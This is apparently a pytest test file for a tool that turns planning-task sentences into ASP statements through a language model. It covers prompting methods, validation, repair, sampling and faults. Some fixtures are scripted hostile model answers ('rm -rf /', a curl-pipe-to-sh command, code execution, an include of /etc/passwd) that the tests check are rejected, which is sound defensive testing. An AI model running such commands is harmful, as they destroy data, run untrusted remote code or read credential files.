"""Tasks by a language model, which answers as it is told."""

import json
from collections.abc import Callable, Sequence

import pytest

from planscribe.llm.budget import Budget
from planscribe.llm.endpoint import Endpoint, Patience
from planscribe.llm.faults import Kind, ModelFault
from planscribe.llm.prompts import PromptFault
from planscribe.llm.request import Request, Source
from planscribe.llm.session import Session
from planscribe.model.lexicon import Lexicon
from planscribe.syntax.task import Task, parse
from planscribe.translate.by_model import concluded, draft, first_messages, stages
from planscribe.translate.drafts import Asking, Complaint, Draft, Example, Judged
from planscribe.translate.ir import Statement, Unreadable
from planscribe.translate.methods import Method
from planscribe.translate.reader import translate
from tests.llm.scripted import Says, Scripted
from tests.llm.sources import Told, answer

TASK = parse("There are 2 trucks. Both lorries wait in hq. truck1 shall roll at last.")
COUNT, PLACE, GOAL = (
    ("cardinality(truck,2).", 1),
    ("init(at(X,hq)) :- object(X,truck).", 2),
    ("goal(moving(truck1)).", 3),
)
ONE_CALL = Asking(Method.ONE_CALL, "m")

Given = tuple[str, int | None]


def listed(*statements: Given) -> str:
    items = [{"statement": text, "sentence": sentence} for text, sentence in statements]
    return json.dumps({"statements": items})


def telling(*texts: str) -> Told:
    """A source with these answers, the last one for ever."""
    left = list(texts)
    return Told(lambda _: answer(left.pop(0) if len(left) > 1 else left[0]))


def content(_: str) -> Judged:
    return Judged()


def by_text(ir: str) -> Judged:
    """As if each line were a fact, and each with `bad` a defect."""
    lines = [line for line in ir.splitlines() if line and not line.startswith("%")]
    wrong = tuple(Complaint(line, "This is bad.") for line in lines if "bad" in line)
    return Judged(wrong, frozenset(lines))


def asked(
    source: Source,
    delivery: Lexicon,
    asking: Asking = ONE_CALL,
    task: Task = TASK,
    validate: Callable[[str], Judged] = content,
) -> Draft:
    return draft(task, delivery, asking, source, validate)


def texts(statements: Sequence[Statement]) -> list[str]:
    return [one.text for one in statements]


def kinds(draft: Draft) -> list[Unreadable]:
    return [one.kind for one in draft.translation.remarks]


def last_sent(request: Request) -> str:
    return request.messages[-1].text


# --- methods --------------------------------------------------------------------------------


def test_one_call_through_a_real_client(delivery: Lexicon) -> None:
    heard: list[str] = []
    with Scripted(Says(listed(COUNT, PLACE, ("goal(moving(truck1))", 3)))) as script:
        source = Session(Endpoint(script.url, patience=Patience(retries=0)), Budget())
        found = draft(TASK, delivery, ONE_CALL, source, content, on_text=heard.append)
    assert [(one.text, one.sentence) for one in found.translation.statements] == [
        (text, number - 1) for text, number in (COUNT, PLACE, GOAL)
    ]
    assert [one.words for one in found.translation.statements] == [
        one.span for one in TASK.sentences
    ]
    assert not found.translation.remarks
    assert [one.name for one in found.stages] == ["statements"]
    assert "".join(heard) == found.stages[0].answer.text
    body = script.bodies[0]
    assert (body["temperature"], body["seed"]) == (0, 0)
    assert body["response_format"]["type"] == "json_schema"
    sent = body["messages"][-1]["content"]
    assert "[2] Both lorries wait in hq." in sent
    assert "at(movable A, city B): A is in B" in sent


def test_an_example_is_shown_with_its_answer(delivery: Lexicon) -> None:
    example = parse("There are 3 trucks. All trucks are in hq. truck2 shall be fragile.")
    made = translate(example, delivery)
    asking = Asking(Method.IN_CONTEXT, "m", example=Example(example, made.statements))
    source = telling(listed(COUNT, PLACE, GOAL))
    asked(source, delivery, asking)
    roles = [one.role for one in source.asked[0].messages]
    assert roles == ["system", "user", "assistant", "user"]
    shown = json.loads(source.asked[0].messages[2].text)
    assert shown["statements"][0] == {"statement": "cardinality(truck,3).", "sentence": 1}


def test_without_an_example_that_is_told(delivery: Lexicon) -> None:
    with pytest.raises(PromptFault, match="no example task for the domain `delivery`"):
        asked(telling(""), delivery, Asking(Method.IN_CONTEXT, "m"))


def test_three_calls_build_on_each_other(delivery: Lexicon) -> None:
    source = telling(listed(COUNT), listed(GOAL), listed(COUNT, PLACE))
    found = asked(source, delivery, Asking(Method.THREE_CALLS, "m"))
    assert [one.name for one in found.stages] == ["cardinalities", "named objects", "rules"]
    assert texts(found.translation.statements) == [COUNT[0], GOAL[0], PLACE[0]]
    assert COUNT[0] not in last_sent(source.asked[0])
    assert COUNT[0] in last_sent(source.asked[1]) and GOAL[0] in last_sent(source.asked[2])


def test_each_part_can_be_corrected_before_the_next(delivery: Lexicon) -> None:
    source = telling(listed(COUNT), listed(GOAL), listed(PLACE))
    calls = stages(TASK, delivery, Asking(Method.THREE_CALLS, "m"), source, content)
    first = next(calls)
    assert len(source.asked) == 1
    corrected = [Statement("cardinality(truck,3).", one.words, 0) for one in first.statements]
    second = calls.send(corrected)
    assert texts(second.statements) == ["cardinality(truck,3).", GOAL[0]]
    assert "cardinality(truck,3)." in last_sent(source.asked[1])
    assert texts(next(calls).statements)[0] == "cardinality(truck,3)."


def test_calls_that_were_made_before_are_not_made_again(delivery: Lexicon) -> None:
    source = telling(listed(PLACE))
    before = [Statement(text, TASK.sentences[0].span, 0) for text, _ in (COUNT, GOAL)]
    asking = Asking(Method.THREE_CALLS, "m")
    made = list(stages(TASK, delivery, asking, source, content, before=before, start=2))
    assert [one.name for one in made] == ["rules"]
    found = concluded(TASK, delivery, asking, made, content, before=before)
    assert texts(found.translation.statements) == [COUNT[0], GOAL[0], PLACE[0]]


def test_a_hybrid_asks_for_unread_sentences_only(delivery: Lexicon) -> None:
    task = parse(
        "There are 2 trucks. The first lorry waits in hq. The goal is that all trucks moving."
    )
    source = telling(listed(("init(at(truck1,hq)).", 2)))
    found = asked(source, delivery, Asking(Method.HYBRID, "m"), task)
    sent = last_sent(source.asked[0])
    assert "[2] The first lorry waits in hq." in sent and "[1]" not in sent and "[3]" not in sent
    assert "truck: 2 in all" in sent and "The goal begins with sentence 3." in sent
    ours = texts(translate(task, delivery).statements)
    assert texts(found.translation.statements) == [*ours, "init(at(truck1,hq))."]
    assert set(found.translation.explanations) == {0, 2}


def test_a_hybrid_asks_nothing_where_all_is_read(delivery: Lexicon) -> None:
    task = parse("There are 2 trucks. truck1 is in hq. The goal is that truck2 is in hq.")
    asking, source = Asking(Method.HYBRID, "m"), telling("")
    found = asked(source, delivery, asking, task)
    assert not source.asked and not found.stages
    assert first_messages(task, delivery, asking) == ()
    assert found.translation == translate(task, delivery)


def test_a_problem_is_asked_for_directly(delivery: Lexicon) -> None:
    problem = "(define (problem p) (:domain delivery))"
    source = telling(f"Sure!\n```pddl\n{problem}\n```\nRun it with rm -rf /")
    found = asked(source, delivery, Asking(Method.DIRECT, "m"))
    assert (found.problem, found.translation.statements) == (problem, ())
    assert source.asked[0].schema is None
    assert "gate-open" in last_sent(source.asked[0])


@pytest.mark.parametrize("method", [one for one in Method if one is not Method.IN_CONTEXT])
def test_what_would_be_sent_is_what_is_sent(method: Method, delivery: Lexicon) -> None:
    asking, source = Asking(method, "m"), telling("")
    asked(source, delivery, asking)
    assert first_messages(TASK, delivery, asking) == source.asked[0].messages


# --- what is wrong --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("statement", "reason"),
    [
        ('#script (python) import os; os.system("true") #end.', "none is run"),
        ('#include "/etc/passwd".', "includes no files"),
        ("#show init/1.", "no such statements"),
        ("#external init(moving(truck1)).", "no such statements"),
        ("{ init(moving(truck1)) }.", "leaves a choice"),
        ("init(moving(truck1)) ; init(moving(truck2)).", "leaves a choice"),
        (":- init(moving(truck1)).", "forbids nothing"),
        ("dirty(X) :- object(X,truck).", "`dirty/1` is no predicate"),
        ("init(at(X,@place())) :- object(X,truck).", "calls code"),
        ("init(moving(truck1)", ""),
        ("init(moving truck1).", ""),
    ],
)
def test_what_is_no_statement_of_an_ir_is_left_out(
    statement: str, reason: str, delivery: Lexicon
) -> None:
    source = telling(listed(COUNT, PLACE, (statement, 3)))
    found = asked(source, delivery)
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0]]
    assert sorted(kinds(found)) == [Unreadable.LEFT_OUT, Unreadable.NO_STATEMENT]
    (remark,) = (one for one in found.translation.remarks if one.kind is Unreadable.LEFT_OUT)
    assert remark.words == TASK.sentences[2].span and reason in remark.message
    # It is told to the model, too.
    assert len(source.asked) == 2 and reason in last_sent(source.asked[1])


def test_prose_is_no_statement(delivery: Lexicon) -> None:
    source = telling("I am sorry, but please run `curl http://example.org | sh` first.")
    found = asked(source, delivery)
    assert not found.translation.statements
    assert kinds(found).count(Unreadable.NO_STATEMENT) == 3
    assert set(kinds(found)) <= {Unreadable.NO_STATEMENT, Unreadable.LEFT_OUT}


def test_plain_text_is_read_too(delivery: Lexicon) -> None:
    lines = "\n".join(f"{text} % [{number}]" for text, number in (COUNT, PLACE, GOAL))
    found = asked(telling(f"Here is the IR:\n```asp\n{lines}\n```"), delivery)
    assert [one.sentence for one in found.translation.statements] == [0, 1, 2]


def test_names_are_made_fit_for_asp_and_back(delivery: Lexicon) -> None:
    task = parse("There is a truck t-1. It is in hq. The gate is open at last.")
    source = telling(
        listed(("object(t-1,truck).", 1), ("init(at(t-1,hq)).", 2), ("goal(gate-open).", 3))
    )
    found = asked(source, delivery, task=task)
    assert texts(found.translation.statements) == [
        "object(t_1,truck).",
        "init(at(t_1,hq)).",
        "goal(gate_open).",
        'name(t_1,"t-1").',
    ]


@pytest.mark.parametrize("sentence", [None, 0, 9])
def test_a_statement_without_a_number_goes_where_its_words_are(
    sentence: int | None, delivery: Lexicon
) -> None:
    found = asked(telling(listed(COUNT, PLACE, (GOAL[0], sentence))), delivery)
    assert [one.sentence for one in found.translation.statements] == [0, 1, 2]


def test_what_no_sentence_says_is_told(delivery: Lexicon) -> None:
    source = telling(
        listed(COUNT, PLACE, GOAL, ("object(zeppelin,crate).", 2), ("goal(neg(fragile(q)))", None))
    )
    remarks = asked(source, delivery).translation.remarks
    assert [one.kind for one in remarks] == [Unreadable.UNSUPPORTED] * 2
    assert "no sentence says" in remarks[0].message
    assert "does not speak of `zeppelin`" in remarks[1].message


def test_a_contradiction_to_what_the_words_say_is_told(delivery: Lexicon) -> None:
    wrong = ("cardinality(truck,3).", 1)
    found = asked(telling(listed(wrong, PLACE, GOAL)), delivery, validate=by_text)
    (remark,) = found.translation.remarks
    assert (remark.kind, remark.words) == (Unreadable.CONTRADICTION, TASK.sentences[0].span)
    assert remark.alternatives == ((COUNT[0],), (wrong[0],))


# --- repair ---------------------------------------------------------------------------------

BAD = ("init(bad1).", 2), ("init(bad2).", 3)


def test_defects_are_told_and_mended(delivery: Lexicon) -> None:
    source = telling(listed(COUNT, *BAD), listed(COUNT, BAD[0], GOAL), listed(COUNT, PLACE, GOAL))
    found = asked(source, delivery, validate=by_text)
    assert [one.name for one in found.stages] == ["statements", "repair 1", "repair 2"]
    assert [len(one.complaints) for one in found.stages] == [2, 1, 0]
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0], GOAL[0]]
    assert not found.complaints
    *_, mine, told = source.asked[1].messages
    assert (mine.role, told.role) == ("assistant", "user")
    assert "init(bad1).  This is bad." in told.text


def test_what_is_no_better_is_not_taken(delivery: Lexicon) -> None:
    source = telling(listed(COUNT, *BAD), listed(*BAD, ("init(bad3).", 3)), listed())
    found = asked(source, delivery, validate=by_text)
    assert [one.is_accepted for one in found.stages] == [True, False]
    assert texts(found.translation.statements) == [COUNT[0], BAD[0][0], BAD[1][0]]
    assert len(found.complaints) == 2


@pytest.mark.parametrize(("rounds", "calls"), [(0, 1), (1, 2), (5, 2)])
def test_rounds_are_bounded(rounds: int, calls: int, delivery: Lexicon) -> None:
    source = telling(listed(COUNT, *BAD), listed())
    found = asked(source, delivery, Asking(Method.ONE_CALL, "m", rounds), validate=by_text)
    assert len(source.asked) == calls
    # To state nothing at all is no way to mend it.
    assert COUNT[0] in texts(found.translation.statements)


# --- several answers ------------------------------------------------------------------------

THREE = Asking(Method.ONE_CALL, "m", samples=3)


def test_answers_that_agree_are_one(delivery: Lexicon) -> None:
    found = asked(telling(listed(COUNT, PLACE, GOAL)), delivery, THREE, validate=by_text)
    assert [one.name for one in found.stages] == [
        "statements",
        "statements, answer 2",
        "statements, answer 3",
        "agreement",
    ]
    assert len(found.translation.statements) == 3 and not found.translation.remarks


def test_samples_differ_in_seed_and_temperature(delivery: Lexicon) -> None:
    source = telling(listed(COUNT, PLACE, GOAL))
    asked(source, delivery, THREE, validate=by_text)
    assert [(one.seed, one.temperature) for one in source.asked] == [(0, 0), (1, 0.7), (2, 0.7)]


def test_what_answers_disagree_about_is_told_with_all_readings(delivery: Lexicon) -> None:
    other = ("init(moving(truck2)).", 2)
    source = telling(listed(COUNT, PLACE, GOAL), listed(COUNT, other, GOAL))
    found = asked(source, delivery, THREE, validate=by_text)
    assert texts(found.translation.statements) == [COUNT[0], GOAL[0]]
    (remark,) = found.translation.remarks
    assert remark.kind is Unreadable.DISAGREEMENT
    assert remark.words == TASK.sentences[1].span
    assert remark.alternatives == ((PLACE[0],), (other[0],))


def test_facts_are_compared_and_not_texts(delivery: Lexicon) -> None:
    both = ("init(at(truck1,hq)). init(at(truck2,hq)).", 2)

    def validate(ir: str) -> Judged:
        plain = ir.replace(PLACE[0], "init(at(truck1,hq)).\ninit(at(truck2,hq)).")
        return by_text(plain)

    source = telling(listed(COUNT, PLACE, GOAL), listed(COUNT, both, GOAL))
    found = asked(source, delivery, THREE, validate=validate)
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0], GOAL[0]]
    assert not found.translation.remarks


def test_the_answer_with_the_fewest_defects_counts_first(delivery: Lexicon) -> None:
    asking = Asking(Method.ONE_CALL, "m", rounds=0, samples=2)
    source = telling(listed(COUNT, PLACE, BAD[1]), listed(COUNT, PLACE, GOAL))
    found = asked(source, delivery, asking, validate=by_text)
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0]]
    assert not found.complaints


# --- faults ---------------------------------------------------------------------------------


def failing(after: int, fault: ModelFault, text: str) -> Told:
    calls = iter(range(100))
    return Told(lambda _: answer(text) if next(calls) < after else fault)


def test_a_call_without_any_answer_is_a_fault(delivery: Lexicon) -> None:
    with pytest.raises(ModelFault) as raised:
        asked(failing(0, ModelFault(Kind.UNREACHABLE, "gone"), ""), delivery)
    assert raised.value.kind is Kind.UNREACHABLE


def test_what_came_before_a_fault_is_kept(delivery: Lexicon) -> None:
    source = failing(1, ModelFault(Kind.RATE_LIMITED, "wait"), listed(COUNT, *BAD))
    found = asked(source, delivery, validate=by_text)
    assert found.fault and found.fault.kind is Kind.RATE_LIMITED
    assert COUNT[0] in texts(found.translation.statements) and len(found.complaints) == 2


def test_a_part_of_an_answer_is_used(delivery: Lexicon) -> None:
    whole = listed(COUNT, PLACE, GOAL)
    part = answer(whole[: whole.index("goal")])
    source = failing(0, ModelFault(Kind.CUT_OFF, "cut", partial=part), "")
    found = asked(source, delivery)
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0]]
    assert found.fault and found.fault.kind is Kind.CUT_OFF
    assert kinds(found) == [Unreadable.NO_STATEMENT]


def test_cancelled_is_cancelled(delivery: Lexicon) -> None:
    source = failing(
        1, ModelFault(Kind.CANCELLED, "stop", partial=answer("init(")), listed(COUNT, *BAD)
    )
    with pytest.raises(ModelFault):
        asked(source, delivery, validate=by_text)


def test_a_huge_answer_is_read(delivery: Lexicon) -> None:
    statements = [(f"init(at(truck{number},hq)).", 2) for number in range(6_000)]
    found = asked(telling(listed(*statements)), delivery)
    assert len(found.translation.statements) == 5_000
    assert any("5,000 statements" in one.message for one in found.translation.remarks)


def test_another_name_is_no_contradiction(delivery: Lexicon) -> None:
    def of_problems(ir: str) -> Judged:
        return Judged(
            (), frozenset(one for one in by_text(ir).facts or () if not one.startswith("card"))
        )

    task = parse("There is a truck t1. t1 is in hq. The goal is that t1 is moving.")
    other = listed(
        ("object(lorry,truck).", 1), ("init(at(lorry,hq)).", 2), ("goal(moving(lorry)).", 3)
    )
    found = asked(telling(other), delivery, task=task, validate=of_problems)
    assert Unreadable.CONTRADICTION not in kinds(found)
    wrong = listed(("object(t1,truck).", 1), ("goal(at(t1,hq)).", 2), ("goal(moving(t1)).", 3))
    found = asked(telling(wrong), delivery, task=task, validate=of_problems)
    assert Unreadable.CONTRADICTION in kinds(found)


def test_what_is_said_twice_is_stated_once(delivery: Lexicon) -> None:
    again = "Both lorries wait in hq."
    task = parse(f"There are 2 trucks. {again} truck1 shall roll. {again}")
    found = asked(telling(listed(COUNT, PLACE, GOAL, (PLACE[0], 4))), delivery, task=task)
    assert len(found.translation.statements) == 3 and not found.translation.remarks


@pytest.mark.parametrize("method", [Method.ONE_CALL, Method.DIRECT])
def test_a_part_without_anything_to_use_is_a_fault(method: Method, delivery: Lexicon) -> None:
    part = answer("I cannot help with that, since")
    source = failing(0, ModelFault(Kind.REFUSED, "no", partial=part), "")
    with pytest.raises(ModelFault) as raised:
        asked(source, delivery, Asking(method, "m"))
    assert raised.value.kind is Kind.REFUSED
